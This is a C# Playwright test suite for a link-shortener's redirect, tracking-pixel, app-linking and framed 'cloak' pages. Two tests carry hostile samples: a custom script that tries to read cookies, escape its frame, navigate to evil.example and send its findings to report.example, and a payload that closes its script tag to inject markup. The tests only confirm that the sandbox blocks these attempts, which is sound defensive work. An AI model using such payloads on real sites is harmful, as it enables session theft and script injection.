using System.Collections.Concurrent;
using System.Net;
using System.Text.Json;
using Microsoft.Playwright;
using Signpost.Testing;

namespace Signpost.BrowserTests;

/// <summary>The pages that send visitors to a destination, in a real browser. The tests play all other hosts.</summary>
public sealed class DeliveryTests(Chromium chromium, SharedServer shared) : IClassFixture<SharedServer>
{
    private const string IPhone =
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1";
    private const string Android =
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36";
    private const string InInstagram =
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22B83 Instagram 355.0.0.33.90 (iPhone15,2; iOS 18_1; en_US)";

    // Its own name contains "Headless", so it would count as a robot.
    internal const string Desktop =
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36";
    private const string Video = "https://www.youtube.com/watch?v=abc";
    private const string Destination = "https://destination.example/page";

    private readonly TestServer _server = shared.Server;

    public static MatrixTheoryData<string, Screen, ColorScheme> Pages => Looks.Of("app", "tap", "pixels", "cloak");

    [Theory]
    [InlineData("facebook", "123456789", "https://www.facebook.com/tr?id=123456789&ev=PageView")]
    [InlineData("google_analytics", "G-ABC1234567", "https://www.google-analytics.com/g/collect?v=2&tid=G-ABC1234567")]
    [InlineData("google_tag_manager", "GTM-ABC1234", "https://www.googletagmanager.com/gtm.js?id=GTM-ABC1234")]
    [InlineData("linkedin", "1234567", "https://px.ads.linkedin.com/collect/?pid=1234567")]
    [InlineData("pinterest", "1234567890123", "https://ct.pinterest.com/v3/?event=pagevisit&tid=1234567890123")]
    [InlineData("twitter", "o1abc", "https://t.co/i/adsct?txn_id=o1abc")]
    [InlineData("quora", "0123456789abcdef", "https://q.quora.com/_/ad/0123456789abcdef/pixel")]
    [InlineData(
        "tiktok",
        "C4A1B2C3D4E5F6G7H8I9",
        "https://analytics.tiktok.com/i18n/pixel/events.js?sdkid=C4A1B2C3D4E5F6G7H8I9"
    )]
    [InlineData("snapchat", "01234567-89ab-cdef-0123-456789abcdef", "https://sc-static.net/scevent.min.js")]
    public async Task A_pixel_s_request_is_sent_and_the_visitor_continues(string type, string id, string request)
    {
        var link = await CreateAsync(("location_url", Destination), ("pixels_ids[]", await CreatePixelAsync(type, id)));
        await using var visit = await OpenAsync();

        await visit.Page.GotoAsync(link, new() { WaitUntil = WaitUntilState.Commit });
        await visit.Page.WaitForURLAsync(Destination);

        Assert.Contains(visit.Requests, url => url.StartsWith(request, StringComparison.Ordinal));
        Assert.Empty(visit.Violations);
    }

    [Fact]
    public async Task A_pixel_without_a_response_delays_visitors_by_at_most_a_second()
    {
        var link = await CreateAsync(
            ("location_url", Destination),
            ("pixels_ids[]", await CreatePixelAsync("facebook", "123456789"))
        );
        await using var visit = await OpenAsync(silent: "www.facebook.com");
        var waits = new ConcurrentQueue<int>();
        await visit.Page.ExposeFunctionAsync<int, bool>(
            "waits",
            after =>
            {
                waits.Enqueue(after);
                return true;
            }
        );
        await visit.Page.AddInitScriptAsync(
            "const set = window.setTimeout; window.setTimeout = (go, after) => { waits(after).then(() => set(go, 0)); };"
        );

        await visit.Page.GotoAsync(link, new() { WaitUntil = WaitUntilState.Commit });
        await visit.Page.WaitForURLAsync(Destination);

        Assert.Contains(visit.Requests, url => url.StartsWith("https://www.facebook.com/tr", StringComparison.Ordinal));
        Assert.Equal([1000], waits);
    }

    [Fact]
    public async Task Without_script_pixels_fire_and_the_page_continues_too()
    {
        var link = await CreateAsync(
            ("location_url", Destination),
            ("pixels_ids[]", await CreatePixelAsync("facebook", "123456789"))
        );
        await using var visit = await OpenAsync(script: false);

        await visit.Page.GotoAsync(link, new() { WaitUntil = WaitUntilState.Commit });
        await visit.Page.WaitForURLAsync(Destination);

        Assert.Contains(visit.Requests, url => url.StartsWith("https://www.facebook.com/tr", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_cloak_shows_the_destination_under_the_short_address_and_its_own_title()
    {
        var link = await CreateAsync(
            ("location_url", Destination),
            ("cloaking_is_enabled", "1"),
            ("cloaking_title", "Our own title")
        );
        await using var visit = await OpenAsync();

        await visit.Page.GotoAsync(link);
        var frame = visit.Page.FrameLocator("iframe.whole");

        Assert.Equal("Our own title", await visit.Page.TitleAsync());
        Assert.Equal(link, visit.Page.Url);
        await Assertions.Expect(frame.Locator("h1")).ToHaveTextAsync("The destination");
        // Not sandboxed: it keeps its own origin and cookies.
        Assert.Equal(
            "https://destination.example",
            await frame.Locator("h1").EvaluateAsync<string>("() => window.origin")
        );
        Assert.Empty(visit.Violations);
        await visit.Page.Locator("a.out").ClickAsync();
        await visit.Page.WaitForURLAsync(Destination);
    }

    [Fact]
    public async Task A_window_opened_by_a_framed_destination_can_report_back_to_it()
    {
        var link = await CreateAsync(("location_url", Destination), ("cloaking_is_enabled", "1"));
        await using var visit = await OpenAsync();
        await visit.Page.GotoAsync(link);

        var opened = await visit.Page.RunAndWaitForPopupAsync(() =>
            visit
                .Page.FrameLocator("iframe.whole")
                .Locator("h1")
                .EvaluateAsync("() => { window.open('https://sign-in.example/'); }")
        );
        await opened.WaitForURLAsync("https://sign-in.example/");

        Assert.True(await opened.EvaluateAsync<bool>("window.opener !== null"));
    }

    [Fact]
    public async Task Custom_script_runs_where_it_reads_no_cookie_reaches_no_page_and_calls_no_API_with_one()
    {
        // Each attempt reports its outcome to a host of the script's own.
        const string Script = """
            const attempts = {
              cookie: () => document.cookie,
              storage: () => localStorage.length,
              parent: () => parent.document.title,
              top: () => top.location.href,
              leave: () => { top.location = 'https://evil.example/gone'; return 'asked'; },
              window: () => String(window.open('https://evil.example/popup')),
              origin: () => self.origin,
              api: () => fetch('API/api/links', { credentials: 'include' }).then(answer => 'status ' + answer.status),
            };
            (async () => {
              for (const [name, attempt] of Object.entries(attempts)) {
                let outcome;
                try { outcome = await attempt(); } catch (error) { outcome = 'refused ' + error.name; }
                await fetch('https://report.example/' + name + '?' + encodeURIComponent(outcome));
              }
              await fetch('https://report.example/done');
            })();
            """;
        var link = await CreateAsync(
            ("location_url", Destination),
            ("cloaking_is_enabled", "1"),
            ("cloaking_custom_js", Script.Replace("API", _server.Url, StringComparison.Ordinal))
        );
        // The policy lets scripts talk over https only, and the tests' server has none: without it, the sandbox alone must do.
        await using var visit = await OpenAsync(loosened: true);
        // As the dashboard's would be, but readable by scripts of the same origin.
        await visit.Context.AddCookiesAsync([
            new()
            {
                Name = "session",
                Value = "secret",
                Url = _server.Url,
                HttpOnly = false,
                SameSite = SameSiteAttribute.Lax,
            },
        ]);

        var done = visit.Page.WaitForRequestAsync("https://report.example/done");
        await visit.Page.GotoAsync(link);
        await done;
        var outcomes = visit
            .Requests.Where(url => url.StartsWith("https://report.example/", StringComparison.Ordinal))
            .Select(url => Uri.UnescapeDataString(url["https://report.example/".Length..]))
            .ToArray();

        Assert.Contains("cookie?refused SecurityError", outcomes);
        Assert.Contains("storage?refused SecurityError", outcomes);
        Assert.Contains("parent?refused SecurityError", outcomes);
        Assert.Contains("top?refused SecurityError", outcomes);
        Assert.Contains("window?null", outcomes);
        Assert.Contains("origin?null", outcomes);
        Assert.Contains("api?refused TypeError", outcomes);
        Assert.DoesNotContain(outcomes, outcome => outcome.Contains("secret", StringComparison.Ordinal));
        Assert.DoesNotContain(visit.Requests, url => url.StartsWith("https://evil.example/", StringComparison.Ordinal));
        Assert.Equal(link, visit.Page.Url);
        Assert.Contains(visit.Asked, url => url == $"{_server.Url}/api/links");
        Assert.DoesNotContain(visit.CookiesSent, sent => sent.Contains("/api/", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Custom_script_that_closes_its_own_tag_stays_in_the_sandbox()
    {
        var link = await CreateAsync(
            ("location_url", Destination),
            ("cloaking_is_enabled", "1"),
            ("cloaking_title", "Untouched"),
            (
                "cloaking_custom_js",
                "1</script></iframe>\"'><script>parent.document.title='broken'</script><h1 id=out>out</h1>"
            )
        );
        await using var visit = await OpenAsync();

        await visit.Page.GotoAsync(link);

        Assert.Equal("Untouched", await visit.Page.TitleAsync());
        await Assertions.Expect(visit.Page.Locator("#out")).ToHaveCountAsync(0);
        await Assertions.Expect(visit.Page.Locator("iframe")).ToHaveCountAsync(2);
    }

    [Theory]
    [InlineData(IPhone)]
    [InlineData(Android)]
    public async Task A_phone_without_the_app_ends_at_the_web_address(string agent)
    {
        var link = await CreateAsync(("location_url", Video), ("app_linking_is_enabled", "1"));
        await using var visit = await OpenAsync(agent);

        await visit.Page.GotoAsync(link, new() { WaitUntil = WaitUntilState.Commit });
        await Assertions.Expect(visit.Page).ToHaveURLAsync(Video);
    }

    [Fact]
    public async Task In_the_browser_of_another_app_the_page_waits_for_a_tap()
    {
        var link = await CreateAsync(("location_url", Video), ("app_linking_is_enabled", "1"));
        await using var visit = await OpenAsync(InInstagram);

        await visit.Page.GotoAsync(link, new() { WaitUntil = WaitUntilState.NetworkIdle });

        await Assertions
            .Expect(visit.Page.GetByRole(AriaRole.Link, new() { Name = "Open the app" }))
            .ToHaveAttributeAsync("href", "youtube://www.youtube.com/watch?v=abc");
        Assert.Equal(0, await visit.Page.Locator("script").CountAsync());
        await visit.Page.GetByRole(AriaRole.Link, new() { Name = "Continue in the browser" }).ClickAsync();
        await Assertions.Expect(visit.Page).ToHaveURLAsync(Video);
    }

    [Fact]
    public async Task A_desktop_is_redirected()
    {
        var link = await CreateAsync(("location_url", Video), ("app_linking_is_enabled", "1"));
        await using var visit = await OpenAsync();

        // The tests cannot play the target of a redirect.
        var asked = visit.Page.WaitForRequestAsync(Video);
        await Assert.ThrowsAsync<PlaywrightException>(() => visit.Page.GotoAsync(link));

        Assert.Equal(link, (await asked).RedirectedFrom?.Url);
    }

    [Fact]
    public async Task A_phone_without_script_continues_to_the_web_address()
    {
        var link = await CreateAsync(("location_url", Video), ("app_linking_is_enabled", "1"));
        await using var visit = await OpenAsync(IPhone, script: false);

        await visit.Page.GotoAsync(link, new() { WaitUntil = WaitUntilState.Commit });
        await Assertions.Expect(visit.Page).ToHaveURLAsync(Video);
    }

    [Theory]
    [MemberData(nameof(Pages))]
    public async Task A_page_is_calm_on_every_screen(string name, Screen screen, ColorScheme scheme)
    {
        var link = name switch
        {
            "cloak" => await CreateAsync(("location_url", Destination), ("cloaking_is_enabled", "1")),
            "pixels" => await CreateAsync(
                ("location_url", "https://destination.example/never"),
                ("pixels_ids[]", await CreatePixelAsync("facebook", "123456789"))
            ),
            _ => await CreateAsync(("location_url", Video), ("app_linking_is_enabled", "1")),
        };
        await using var visit = await OpenAsync(
            name switch
            {
                "app" => IPhone,
                "tap" => InInstagram,
                _ => null,
            },
            screen: screen,
            scheme: scheme,
            language: screen == Screen.Phone ? "ar" : "en",
            silent: "www.facebook.com"
        );
        // The page does not continue, so that there is time to look.
        await visit.Page.AddInitScriptAsync("window.setTimeout = () => 0;");

        await visit.Page.GotoAsync(link, new() { WaitUntil = WaitUntilState.DOMContentLoaded });
        await Assertions.Expect(visit.Page.Locator(name == "cloak" ? "a.out" : "h1")).ToBeVisibleAsync();

        Assert.Equal(
            0,
            await visit.Page.EvaluateAsync<int>("Math.max(0, document.documentElement.scrollWidth - innerWidth)")
        );
        Assert.Equal(screen == Screen.Phone ? "rtl" : "ltr", await visit.Page.Locator("html").GetAttributeAsync("dir"));
        Assert.Empty(visit.Violations);
        if (Environment.GetEnvironmentVariable("SCREENSHOTS") is { Length: > 0 } directory)
            await visit.Page.ScreenshotAsync(new() { Path = Path.Combine(directory, $"{name}-{screen}-{scheme}.png") });
    }

    private async Task<string> CreateAsync(params (string Name, string Value)[] fields) =>
        $"{_server.Url}/{(await _server.CreateLinkAsync(fields)).Alias}";

    private async Task<string> CreatePixelAsync(string type, string id)
    {
        using var response = await _server.Http.PostAsync(
            "/api/pixels",
            new FormUrlEncodedContent([new("type", type), new("name", "One"), new("pixel", id)]),
            TestContext.Current.CancellationToken
        );
        var answer = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        return $"{JsonDocument.Parse(answer).RootElement.GetProperty("data").GetProperty("id")}";
    }

    private async Task<Visit> OpenAsync(
        string? agent = null,
        bool script = true,
        Screen screen = Screen.Wide,
        ColorScheme scheme = ColorScheme.Light,
        string language = "en",
        string? silent = null,
        bool loosened = false
    )
    {
        var context = await chromium.NewContextAsync(screen, scheme, script, agent ?? Desktop, language);
        var visit = new Visit(context, await context.NewPageAsync());
        await visit.PlayTheWorldAsync(_server.Url, silent, loosened);
        return visit;
    }

    /// <summary>A browser for which the tests play every host but the server.</summary>
    private sealed class Visit(IBrowserContext context, IPage page) : IAsyncDisposable
    {
        private readonly ConcurrentQueue<string> _requests = new();
        private readonly ConcurrentQueue<string> _asked = new();
        private readonly ConcurrentQueue<string> _cookies = new();
        private readonly ConcurrentQueue<string> _violations = new();

        public IBrowserContext Context => context;
        public IPage Page => page;

        /// <summary>Requests to other hosts.</summary>
        public IReadOnlyCollection<string> Requests => _requests;

        /// <summary>Requests to the server.</summary>
        public IReadOnlyCollection<string> Asked => _asked;

        /// <summary>The server's addresses that a cookie was sent to.</summary>
        public IReadOnlyCollection<string> CookiesSent => _cookies;

        /// <summary>Refusals of a policy.</summary>
        public IReadOnlyCollection<string> Violations => _violations;

        public async Task PlayTheWorldAsync(string server, string? silent, bool loosened)
        {
            page.Console += (_, message) =>
            {
                if (message.Text.Contains("Content Security Policy", StringComparison.Ordinal))
                    _violations.Enqueue(message.Text);
            };
            await context.RouteAsync(
                "**/*",
                async route =>
                {
                    var url = route.Request.Url;
                    if (url.StartsWith(server, StringComparison.Ordinal))
                    {
                        _asked.Enqueue(url);
                        var headers = await route.Request.AllHeadersAsync();
                        if (headers.ContainsKey("cookie"))
                            _cookies.Enqueue(url);
                        await (
                            loosened && route.Request.ResourceType == "document"
                                ? LoosenAsync(route)
                                : route.ContinueAsync()
                        );
                        return;
                    }

                    _requests.Enqueue(url);
                    if (silent is null || new Uri(url).Host != silent)
                        await route.FulfillAsync(AnswerTo(route.Request));
                }
            );
        }

        public ValueTask DisposeAsync() => context.DisposeAsync();

        private static async Task LoosenAsync(IRoute route)
        {
            var answer = await route.FetchAsync();
            var headers = answer.Headers.ToDictionary(header => header.Key, header => header.Value);
            headers["content-security-policy"] = headers["content-security-policy"]
                .Replace("connect-src https:", "connect-src *", StringComparison.Ordinal);
            await route.FulfillAsync(new() { Response = answer, Headers = headers });
        }

        private static RouteFulfillOptions AnswerTo(IRequest request) =>
            request.ResourceType switch
            {
                "document" => new()
                {
                    ContentType = "text/html",
                    Body = "<!DOCTYPE html><title>Theirs</title><h1>The destination</h1>",
                },
                "script" => new() { ContentType = "text/javascript", Body = "" },
                "image" => new() { Status = 204 },
                _ => new()
                {
                    Headers = new Dictionary<string, string> { ["Access-Control-Allow-Origin"] = "*" },
                    Body = "",
                },
            };
    }
}
